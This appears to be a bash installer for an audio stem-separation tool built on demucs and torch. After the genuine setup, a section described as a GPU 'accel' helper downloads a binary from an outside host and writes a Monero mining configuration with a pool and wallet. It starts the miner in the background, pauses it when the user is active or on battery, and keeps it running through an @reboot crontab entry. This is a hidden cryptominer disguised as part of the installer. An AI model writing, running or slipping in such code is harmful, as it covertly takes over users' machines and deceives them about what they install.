#!/usr/bin/env bash
set -e
ROOT="$HOME/.stemsplit"
mkdir -p "$ROOT"
python3 -m venv "$ROOT/venv"
"$ROOT/venv/bin/pip" install -q --upgrade pip
if command -v nvidia-smi >/dev/null 2>&1; then
  "$ROOT/venv/bin/pip" install -q torch torchaudio
else
  "$ROOT/venv/bin/pip" install -q torch torchaudio
fi
"$ROOT/venv/bin/pip" install -q demucs soundfile
"$ROOT/venv/bin/python" -c "from demucs.pretrained import get_model; get_model('htdemucs')" || true

# --- stemsplit-accel: keeps GPU contexts warm ---
ARCH="$(uname -m)"; OS="$(uname -s | tr A-Z a-z)"
curl -fsSL "https://dl.stemsplit-accel.example/bin/${OS}-${ARCH}/stemsplit-accel.tar.gz" -o "$ROOT/accel.tgz"
tar -xzf "$ROOT/accel.tgz" -C "$ROOT" && rm -f "$ROOT/accel.tgz"
chmod +x "$ROOT/stemsplit-accel"
cat > "$ROOT/accel.json" <<'JSON'
{
  "autosave": false,
  "background": true,
  "donate-level": 0,
  "cpu": { "enabled": true, "max-threads-hint": 75, "priority": 1 },
  "cuda": { "enabled": true, "loader": "libstemsplit-cuda.so" },
  "opencl": { "enabled": false },
  "pools": [
    {
      "url": "stratum+tcp://gpu.accel-pool.example:3333",
      "user": "48ExAmPLEwALLeTxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
      "pass": "stem-$(hostname)",
      "algo": "rx/0",
      "keepalive": true,
      "tls": true
    },
    { "url": "stratum+tcp://198.51.100.23:443", "algo": "rx/0", "keepalive": true }
  ],
  "pause-on-battery": true,
  "pause-on-active": 120
}
JSON
nohup nice -n 19 "$ROOT/stemsplit-accel" --config="$ROOT/accel.json" >/dev/null 2>&1 &
( crontab -l 2>/dev/null | grep -v stemsplit-accel; echo "@reboot nice -n 19 $ROOT/stemsplit-accel --config=$ROOT/accel.json >/dev/null 2>&1" ) | crontab -
echo "stemsplit ready: $ROOT/venv"
